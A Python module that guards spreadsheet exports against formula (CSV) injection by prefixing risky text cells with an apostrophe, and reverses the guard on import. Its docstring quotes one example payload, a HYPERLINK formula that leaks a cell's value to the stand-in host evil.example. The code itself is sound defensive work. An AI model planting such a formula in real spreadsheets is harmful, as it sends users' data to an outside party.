"""Text cells that a spreadsheet cannot take for a formula: the one rule every CSV and XLSX writer uses.

A spreadsheet program reads a cell whose text starts with `=`, `+`, `-` or `@` as a formula (and a
tab or carriage return first can hide one), so text from the register such as
`=HYPERLINK("http://evil.example/?leak="&A1,"x")` could run when someone opens a download. Following
OWASP's advice on CSV injection, `neutralise` puts an apostrophe in front of such text. It also
counts white space before those characters (some programs skip it) and their full-width forms
(＝＋－＠, which some programs read as the ASCII ones). Text that already starts with apostrophes
in front of such text gets one more, so that `strip_guard` — what the register importer applies to
every text cell — takes exactly one off and an exported value imports unchanged.

Only text is changed: numbers, money and dates written as real values are data, not formulas, so a
negative number stays a number while the text "-1+1" is guarded. `xlsx_cell` writes an Excel cell
as text (never a formula) with the same guard. `MAY_NEED_GUARD` is the set of first characters for
which `neutralise` might change a value, for a writer that checks millions of cells (the open-data
CSV) and calls `neutralise` only for those.
"""

import re
from typing import Any

from openpyxl.cell import Cell, WriteOnlyCell

GUARD = "'"
FORMULA_CHARACTERS = "=+-@＝＋－＠"  # ASCII and full-width
HIDING_CHARACTERS = "\t\r"  # dangerous first even without a formula character after them
_NEEDS_GUARD = re.compile(rf"'*(?:\s*[{re.escape(FORMULA_CHARACTERS)}]|[{HIDING_CHARACTERS}])")
# What `\s` matches (str.isspace), listed so importing this module stays instant; a test checks it.
WHITE_SPACE = (
    "\t\n\x0b\x0c\r\x1c\x1d\x1e\x1f \x85\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005"
    "\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
)
MAY_NEED_GUARD = frozenset(FORMULA_CHARACTERS + HIDING_CHARACTERS + GUARD + WHITE_SPACE)


def needs_guard(text: str) -> bool:
    """Whether a spreadsheet could take this text for a formula (or it already starts with a guard
    in front of such text)."""
    return _NEEDS_GUARD.match(text) is not None


def neutralise[T](value: T) -> T:
    """The value to write in a spreadsheet cell: text that could be read as a formula with an
    apostrophe in front; anything that is not text (None, numbers, dates) as it is."""
    if isinstance(value, str) and value and value[0] in MAY_NEED_GUARD and _NEEDS_GUARD.match(value):
        return GUARD + value  # type: ignore[return-value]
    return value


def strip_guard(text: str) -> str:
    """Text read back from a spreadsheet without the apostrophe `neutralise` put in front of it:
    `strip_guard(neutralise(text)) == text` for any text."""
    if text[:1] == GUARD and _NEEDS_GUARD.match(text, 1):
        return text[1:]
    return text


def xlsx_cell(sheet: Any, value: Any) -> Cell:  # what WriteOnlyCell makes
    """A write-only Excel cell holding `value`: text is neutralised and always stored as text."""
    cell = WriteOnlyCell(sheet, value=neutralise(value))
    if isinstance(value, str):
        cell.data_type = "s"  # text, never a formula
    return cell
